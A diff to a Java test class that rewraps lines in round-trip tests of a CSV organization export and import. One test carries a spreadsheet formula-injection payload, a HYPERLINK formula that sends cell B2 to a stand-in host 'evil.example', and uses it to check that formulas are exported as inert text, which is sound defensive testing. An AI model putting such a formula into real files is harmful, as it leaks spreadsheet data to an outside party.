@@ -48,11 +48,13 @@ class CsvRoundTripTest {
                 office.get(before.get(0).indexOf("other_names")));
 
         tables.wipe();
-        importCsv("organizations", csv).statusCode(200).body("created.organizations", equalTo(11)).body("rejected", empty());
+        importCsv("organizations", csv).statusCode(200).body("created.organizations", equalTo(11))
+                .body("rejected", empty());
         assertEquals(before, withoutTimestamps(exportCsv("organizations")));
 
         long outbox = tables.outboxRows();
-        importCsv("organizations", csv).statusCode(200).body("matched.organizations", equalTo(11)).body("rejected", empty());
+        importCsv("organizations", csv).statusCode(200).body("matched.organizations", equalTo(11))
+                .body("rejected", empty());
         assertEquals(outbox, tables.outboxRows());
     }
 
@@ -75,7 +77,8 @@ class CsvRoundTripTest {
     void l1_aFormulaInACellIsExportedAsTextAndImportedAsItWas() throws IOException {
         String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
         given().auth().oauth2(TestTokens.admin()).contentType("application/json")
-                .body("{\"kind\": \"platform\", \"nameAr\": \"الذاكرة السورية\", \"nameEn\": \"" + formula.replace("\"", "\\\"") + "\"}")
+                .body("{\"kind\": \"platform\", \"nameAr\": \"الذاكرة السورية\", \"nameEn\": \""
+                        + formula.replace("\"", "\\\"") + "\"}")
                 .post("/organizations").then().statusCode(201);
         String csv = exportCsv("organizations");
         List<List<String>> before = withoutTimestamps(csv);
